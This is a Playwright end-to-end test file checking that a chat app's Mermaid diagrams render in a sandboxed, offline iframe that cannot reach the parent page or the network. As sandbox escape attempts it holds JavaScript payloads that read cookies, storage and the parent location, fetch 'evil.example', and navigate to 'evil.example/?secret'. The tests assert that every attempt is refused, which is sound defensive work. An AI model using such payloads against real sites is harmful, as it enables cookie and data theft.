"""Diagrams under the policy the page is served with: drawn apart from it, inert, and without a network once they are there."""

import re

import pytest
from playwright.sync_api import Frame, expect

from e2e.chat_page import ChatPage
from e2e.conftest import NewTab
from e2e.deadline import eventually
from e2e.rest import Rest
from e2e.scripted_engine import ScriptedEngine
from e2e.tiers import Tiers

pytestmark = pytest.mark.chromium

PATIENCE = 30_000
DRAWN = "image => image.complete && image.naturalWidth > 0"
FLOWCHART = "```mermaid\ngraph TD\n  A[Question] --> B[Answer]\n```\n"
# Each tries to get out of the frame; what it says is what it got.
ATTEMPTS = {
    "the page": "parent.document.title",
    "its address": "parent.location.href",
    "its storage": "localStorage.length",
    "its cookies": "document.cookie",
    "the server": "fetch('/api/chats/').then(() => 'reached')",
    "another server": "fetch('https://evil.example/').then(() => 'reached')",
    "a picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/favicon.svg'; })",
    "a window": "open('/') === null ? Promise.reject() : 'opened'",
}


def _show(tab: ChatPage, rest: Rest, *texts: str) -> ChatPage:
    chat = rest.new_chat(title="x")["id"]
    for text in texts:
        rest.call("POST", f"/api/chats/{chat}/messages", {"role": "assistant", "content": text})
    return tab.open(chat)


def _frame(tab: ChatPage) -> Frame:
    return next(frame for frame in tab.page.frames if frame.url.endswith("/diagram.html"))


def test_a_diagram_is_drawn_as_it_streams_in_and_not_before_it_is_whole(
    tiers: Tiers, new_tab: NewTab, engine: ScriptedEngine
) -> None:
    answer = engine.answer(content=[FLOWCHART[:-5], FLOWCHART[-5:], "After it."], gated=True)
    tab = new_tab(tiers).open()
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.send("Draw it")

    answer.step(1)
    expect(tab.content.locator("pre")).to_contain_text("A[Question] --> B[Answer]")
    assert not [url for url in asked if "mermaid" in url or "diagram" in url]
    answer.step(2)

    picture = tab.content.locator(".diagram img")
    expect(picture).to_be_visible(timeout=PATIENCE)
    eventually(lambda: picture.evaluate(DRAWN), 10, "the picture to be there")
    assert len([url for url in asked if re.search(r"/mermaid[^/]*\.js$", url)]) == 1


def test_without_a_diagram_nothing_of_it_is_loaded(tiers: Tiers, new_tab: NewTab, rest: Rest) -> None:
    tab = new_tab(tiers)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))

    _show(tab, rest, "```js\nlet a = 1;\n```\n")

    expect(tab.content.locator(".code")).to_be_visible()
    assert [url for url in asked if "mermaid" in url or "diagram" in url] == []
    assert len(tab.page.frames) == 1


def test_the_frame_reaches_nothing(tiers: Tiers, new_tab: NewTab, rest: Rest) -> None:
    tab = _show(new_tab(tiers), rest, FLOWCHART)
    tab.witness.expect(
        "content security policy", "Content Security Policy", "sandbox", "Blocked", "CORS", "ERR_"
    )
    expect(tab.content.locator(".diagram img")).to_be_visible(timeout=PATIENCE)
    frame = _frame(tab)

    reached = {}
    for name, attempt in ATTEMPTS.items():
        script = f"(async () => {{ try {{ return ['got', String(await ({attempt}))] }} catch {{ return ['refused'] }} }})()"
        reached[name] = frame.evaluate(script)[0]

    assert reached == dict.fromkeys(ATTEMPTS, "refused")
    assert frame.evaluate("self.origin") == "null"


def test_the_frame_cannot_be_led_away(tiers: Tiers, new_tab: NewTab, rest: Rest) -> None:
    tab = _show(new_tab(tiers), rest, FLOWCHART)
    tab.witness.expect("content security policy", "Content Security Policy", "frame-src")
    expect(tab.content.locator(".diagram img")).to_be_visible(timeout=PATIENCE)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    violated = tab.page.evaluate_handle(
        "() => ({ seen: new Promise((yes) => addEventListener('securitypolicyviolation', (e) => yes(e.effectiveDirective))) })"
    )

    _frame(tab).evaluate("void (location = 'https://evil.example/?secret')")

    assert violated.evaluate("(watch) => watch.seen") == "frame-src"
    assert [url for url in asked if "evil.example" in url] == []


def test_a_diagram_that_comes_near_without_a_network_is_drawn_by_what_is_there(
    tiers: Tiers, new_tab: NewTab, rest: Rest
) -> None:
    earlier = FLOWCHART.replace("Answer", "Earlier")
    tab = _show(new_tab(tiers), rest, earlier, "Long. \n\n" * 300, FLOWCHART)
    tab.witness.expect("ERR_", "Failed to load resource", "WebSocket", "fetch")
    expect(tab.messages().last.locator(".diagram img")).to_be_visible(timeout=PATIENCE)
    first = tab.messages().first.locator(".diagram")
    expect(first.locator("img")).to_have_count(0)

    tab.page.context.set_offline(True)
    first.scroll_into_view_if_needed()

    expect(first.locator("img")).to_be_visible(timeout=PATIENCE)
    tab.page.context.set_offline(False)


def test_where_it_cannot_be_loaded_the_source_is_there_and_it_can_be_tried_again(
    tiers: Tiers, new_tab: NewTab, rest: Rest
) -> None:
    tab = _show(new_tab(tiers), rest, FLOWCHART, "Long. \n\n" * 300)
    tab.witness.expect("ERR_", "Failed to load resource", "WebSocket", "fetch")
    diagram = tab.messages().first.locator(".diagram")
    expect(tab.messages()).to_have_count(2)

    tab.page.context.set_offline(True)
    diagram.scroll_into_view_if_needed()
    expect(diagram.locator(".problem")).to_contain_text("could not be loaded", timeout=PATIENCE)
    expect(diagram.locator("pre")).to_contain_text("A[Question] --> B[Answer]")
    tab.page.context.set_offline(False)
    diagram.get_by_role("button", name="Try again").click()

    expect(diagram.locator("img")).to_be_visible(timeout=PATIENCE)
